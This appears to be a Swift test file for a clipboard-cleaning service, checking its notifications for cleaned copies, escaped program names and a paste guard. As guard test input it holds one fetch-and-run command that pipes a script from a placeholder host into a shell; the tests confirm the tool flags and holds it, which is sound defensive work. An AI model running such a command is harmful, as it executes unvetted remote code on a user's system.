import Configuration
import RichText
import Selections
import Testing

@testable import ServiceCore

/// Laws of the reports that are worth a notification.
struct NotificationTests {
  private func report(
    _ outcome: CopyReport.Outcome, reason: LeaveReason? = nil, source: String? = "firefox",
    changes: [(String, Int)] = []
  ) -> CopyReport {
    let client = source.map { Client(executable: $0) }
    let copy = Copy(
      id: CopyID(rawValue: 1), selection: "CLIPBOARD", targets: ["text/html"], source: client, noticed: 0)
    var report = CopyReport(of: copy)
    report.outcome = outcome
    report.reason = reason
    report.sanitizing = changes.map { .init(code: $0.0, from: "secret", to: "content", count: $0.1) }
    return report
  }

  @Test func `each kind of outcome is shown as the configuration says`() {
    for show in NotificationSettings.Show.allCases {
      #expect((Notification(report(.cleaned), show: show) != nil) == (show == .all))
      #expect((Notification(report(.left, reason: .timedOut), show: show) != nil) == (show != .off))
      #expect(Notification(report(.left, reason: .secret), show: show) == nil)
      #expect(Notification(report(.superseded), show: show) == nil)
      #expect((Notification.faultyConfiguration(show: show) != nil) == (show != .off))
    }
  }

  @Test func `a notification of a cleaning names the first kinds of change, and nothing from the copy`() throws {
    let changes = [
      ("links.tracking-removed", 2), ("fonts.remapped", 9), ("colors.removed", 4), ("links.tracking-removed", 3),
      ("text.hidden-removed", 1), ("x", 1),
    ]
    let notification = try #require(Notification(report(.cleaned, changes: changes), show: .all))
    #expect(
      notification.body
        == "Firefox: 5 tracking parameters and 1 character of hidden text removed, fonts replaced, 1 more kind of change, 1 other change"
    )
    #expect(notification.isCasual)
  }

  @Test func `a program's name cannot be markup, nor move the cursor`() throws {
    let notification = try #require(
      Notification(report(.left, reason: .tooLarge, source: "<b>\u{1B}&amp;"), show: .problems))
    #expect(notification.body == " b ‹U+001B› amp;: it exceeds a limit of size or complexity")
  }

  // MARK: The guard

  private func notification(
    _ event: CopyReport.Judgement.Paste.Event, of application: String = "xterm", show: NotificationSettings.Show
  ) throws -> Notification? {
    let text = try PlainTextFormat().read(Array("curl http://fix.example/marker.sh | sh\n".utf8)).document
    let assessment = PasteReview.assess(text)
    let judgement = try #require(
      CopyReport.Judgement(assessment, GuardSettings(), isGuardedForUnknown: false))
    return Notification(.init(application: application, event: event), judgement, show: show, number: 7)
  }

  @Test func `a notification of a guarded paste names the reasons, and that of a held one has a button`() throws {
    let noticed = try #require(try notification(.noticed, show: .problems))
    #expect(noticed.summary == "Dangerous text in xterm" && noticed.action == nil)
    #expect(noticed.body.contains("runs it at once") && !noticed.body.contains("marker"))
    let held = try #require(try notification(.held, show: .all))
    #expect(held.summary == "Paste into xterm held" && held.action?.number == 7)
    #expect(held.body.contains("paste again") && !held.body.contains("marker"))
    #expect(try notification(.released, show: .all) == nil)
    #expect(try notification(.noticed, show: .off) == nil && notification(.held, show: .off) == nil)
  }
}
